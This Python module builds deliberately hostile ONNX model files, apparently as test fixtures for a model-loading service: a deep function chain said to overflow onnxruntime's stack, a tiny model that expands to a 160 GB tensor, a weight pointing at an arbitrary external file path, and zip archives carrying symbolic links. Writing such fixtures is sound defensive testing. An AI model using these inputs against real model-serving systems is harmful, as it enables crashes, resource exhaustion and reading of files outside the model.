"""ONNX files made to crash, exhaust or read what is not theirs."""

import io
import stat
import zipfile

import onnx
from onnx import TensorProto, helper

_OPSETS = [helper.make_opsetid("", 17)]


def _vector(name: str, shape: list[int]) -> onnx.ValueInfoProto:
    return helper.make_tensor_value_info(name, TensorProto.FLOAT, shape)


def deep_functions(depth: int = 3000) -> bytes:
    """A chain of local functions, each calling the next. onnxruntime 1.31.1 overflows its stack on it."""
    opsets = [*_OPSETS, helper.make_opsetid("deep", 1)]
    functions = [
        helper.make_function(
            "deep",
            f"f{level}",
            ["x"],
            ["y"],
            [helper.make_node(f"f{level + 1}", ["x"], ["y"], domain="deep")],
            opsets,
        )
        for level in range(depth)
    ]
    last = helper.make_node("Relu", ["x"], ["y"])
    functions.append(helper.make_function("deep", f"f{depth}", ["x"], ["y"], [last], opsets))
    call = helper.make_node("f0", ["x"], ["y"], domain="deep")
    graph = helper.make_graph([call], "g", [_vector("x", [1, 2])], [_vector("y", [1, 2])])
    model = helper.make_model(graph, opset_imports=opsets, ir_version=9, functions=functions)
    return bytes(model.SerializeToString())


def expanding() -> bytes:
    """Expand to 200,000 × 200,000 (160 GB), then a product: some hundred bytes."""
    shape = helper.make_tensor("shape", TensorProto.INT64, [2], [200_000, 200_000])
    weight = helper.make_tensor("w", TensorProto.FLOAT, [2, 1], [1.0, 2.0])
    nodes = [
        helper.make_node("MatMul", ["x", "w"], ["z"]),
        helper.make_node("Expand", ["z", "shape"], ["wide"]),
        helper.make_node("MatMul", ["wide", "wide"], ["square"]),
        helper.make_node("ReduceSum", ["square"], ["y"], keepdims=0),
    ]
    graph = helper.make_graph(nodes, "g", [_vector("x", [1, 2])], [_vector("y", [])], [shape, weight])
    return bytes(helper.make_model(graph, opset_imports=_OPSETS, ir_version=9).SerializeToString())


def external(location: str) -> bytes:
    """A model whose weight is said to be in another file."""
    weight = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[2, 2])
    weight.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "16")):
        weight.external_data.add(key=key, value=value)
    product = helper.make_node("MatMul", ["x", "w"], ["y"])
    graph = helper.make_graph([product], "g", [_vector("x", [1, 2])], [_vector("y", [1, 2])], [weight])
    return bytes(helper.make_model(graph, opset_imports=_OPSETS, ir_version=9).SerializeToString())


def zipped(members: dict[str, bytes], links: dict[str, str] | None = None) -> bytes:
    """An archive of these files, and of symbolic links by their targets."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
        for name, target in (links or {}).items():
            info = zipfile.ZipInfo(name)
            info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)
    return packed.getvalue()
